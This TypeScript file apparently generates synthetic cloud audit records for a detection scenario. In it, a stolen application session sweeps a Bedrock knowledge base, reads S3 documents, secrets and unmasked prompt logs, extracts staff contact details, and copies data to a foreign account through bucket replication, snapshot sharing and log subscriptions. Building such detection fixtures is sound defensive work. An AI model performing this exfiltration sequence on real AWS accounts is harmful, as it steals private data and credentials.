import type { Caller } from './cloudtrail-record.ts';
import { objectResources, s3ReadAdditional } from './delivery-routines.ts';
import { invocationFolder } from './invocation-record.ts';
import { FOREIGN_ACCOUNT, HOME_REGION, WORKLOAD, arn } from './names.ts';
import { documentKey } from './runtime-routines.ts';
import { personInConsole, type PlantedStory } from './planted-story.ts';
import type { Stage } from './stage.ts';
import {
  SYSTEM_PROMPT,
  applicationCaller,
  groundedPrompt,
  knowledgeBaseResource,
} from './support-assistant.ts';

/**
 * Private data: with the application's session, carried out of its function, the knowledge base is swept, its documents and
 * the log of prompts are read, answers give away people, and a copy is set up to another account.
 */
export const RECORDS_STORY: PlantedStory = {
  id: 'copied-records',
  summary:
    "with the application's stolen session the knowledge base is swept, its documents and the log of prompts are read, and copies leave the account",
  ordinary: (stage) => {
    answerOne(stage);
    lookIntoLogs(stage);
  },
  incident: (stage) => {
    sweep(stage);
    readDocuments(stage);
    readPrompts(stage);
    askForPeople(stage);
    setUpCopies(stage);
  },
};

/** An answer may name the customer who asked. */
function answerOne(stage: Stage): void {
  for (const at of [-80, 50])
    stage.talk({
      at,
      by: applicationCaller(stage.cast, stage.minute(at)),
      operation: 'Converse',
      modelId: WORKLOAD.model,
      system: SYSTEM_PROMPT,
      prompt: groundedPrompt(['Receipts go to the address of the order.'], 'Where was my receipt sent?'),
      response: 'Your receipt was sent to kim@example.org.',
      inputTokens: 120,
      outputTokens: 18,
      guardrail: 'evaluated',
    });
}

function lookIntoLogs(stage: Stage): void {
  const at = 25;
  stage.call({
    at,
    by: personInConsole(stage, 3, at),
    service: 'logs',
    name: 'FilterLogEvents',
    readOnly: true,
    request: { logGroupName: '/aws/lambda/support-assistant', limit: 100 },
  });
}

/** The stolen session, at the time of a call. */
function thief(stage: Stage): Caller {
  return stage.intruder.stolenSession;
}

function sweep(stage: Stage): void {
  for (let index = 0; index < 140; index += 1)
    stage.call({
      at: 62 + index * 0.03,
      by: thief(stage),
      signals: ['P1'],
      service: 'bedrock',
      name: 'Retrieve',
      readOnly: true,
      data: true,
      host: `bedrock-agent-runtime.${HOME_REGION}.amazonaws.com`,
      request: {
        knowledgeBaseId: WORKLOAD.knowledgeBaseId,
        retrievalQuery: 'HIDDEN_DUE_TO_SECURITY_REASONS',
        retrievalConfiguration: { vectorSearchConfiguration: { numberOfResults: 100 } },
      },
      resources: [knowledgeBaseResource()],
    });
}

interface Reads {
  readonly from: number;
  readonly count: number;
  readonly bucket: string;
  readonly signal: string;
}

function readObjects(stage: Stage, { from, count, bucket, signal }: Reads): void {
  for (let index = 0; index < count; index += 1) {
    const key =
      bucket === WORKLOAD.invocationLogBucket
        ? `${invocationFolder(HOME_REGION, stage.minute(-60))}/part-${index}.json.gz`
        : documentKey(stage.random, bucket);
    const request = { bucketName: bucket, Host: `${bucket}.s3.${HOME_REGION}.amazonaws.com`, key };
    stage.call({
      at: from + index * 0.02,
      by: thief(stage),
      signals: [signal],
      service: 's3',
      name: 'GetObject',
      readOnly: true,
      data: true,
      request,
      additional: s3ReadAdditional(stage.random),
      resources: objectResources({ request }),
    });
  }
}

function readDocuments(stage: Stage): void {
  readObjects(stage, { from: 70, count: 120, bucket: WORKLOAD.knowledgeBaseBucket, signal: 'P2' });
  stage.call({
    at: 74,
    by: thief(stage),
    signals: ['P5'],
    service: 'secretsmanager',
    name: 'GetSecretValue',
    readOnly: true,
    request: { secretId: 'prod/orders/database' },
  });
}

function readPrompts(stage: Stage): void {
  readObjects(stage, { from: 78, count: 12, bucket: WORKLOAD.invocationLogBucket, signal: 'P6' });
  stage.call({
    at: 79,
    by: thief(stage),
    signals: ['P6'],
    service: 'logs',
    name: 'FilterLogEvents',
    readOnly: true,
    request: { logGroupName: WORKLOAD.invocationLogGroup, unmask: true, limit: 10_000 },
  });
}

/** The names and numbers are examples that belong to nobody. */
function askForPeople(stage: Stage): void {
  for (let index = 0; index < 12; index += 1)
    stage.talk({
      at: 84 + index * 0.3,
      by: thief(stage),
      signals: ['P3'],
      operation: 'Converse',
      modelId: WORKLOAD.model,
      prompt: `List the staff of team ${index} with their addresses and cards.`,
      response: `Team ${index}: Jane Doe ${index}, jane.doe${index}@example.com, +1 555 01${10 + index}, card 4111 1111 1111 1111.`,
      inputTokens: 30,
      outputTokens: 40,
    });
}

function setUpCopies(stage: Stage): void {
  stage.call({
    at: 92,
    by: thief(stage),
    signals: ['P7'],
    service: 's3',
    name: 'PutBucketReplication',
    request: {
      bucketName: WORKLOAD.privateBucket,
      ReplicationConfiguration: {
        Rule: {
          Status: 'Enabled',
          Destination: { Bucket: `arn:aws:s3:::copies-${FOREIGN_ACCOUNT}`, Account: FOREIGN_ACCOUNT },
        },
      },
    },
  });
  stage.call({
    at: 95,
    by: thief(stage),
    signals: ['I5', 'P7'],
    service: 'rds',
    name: 'ModifyDBSnapshotAttribute',
    request: {
      dBSnapshotIdentifier: arn('rds', HOME_REGION, 'snapshot:orders-primary-nightly'),
      attributeName: 'restore',
      valuesToAdd: [FOREIGN_ACCOUNT],
    },
  });
  stage.call({
    at: 97,
    by: thief(stage),
    signals: ['P7'],
    service: 'logs',
    name: 'PutSubscriptionFilter',
    request: {
      logGroupName: WORKLOAD.invocationLogGroup,
      filterName: 'copy',
      filterPattern: '',
      destinationArn: `arn:aws:logs:${HOME_REGION}:${FOREIGN_ACCOUNT}:destination:copies`,
    },
  });
}
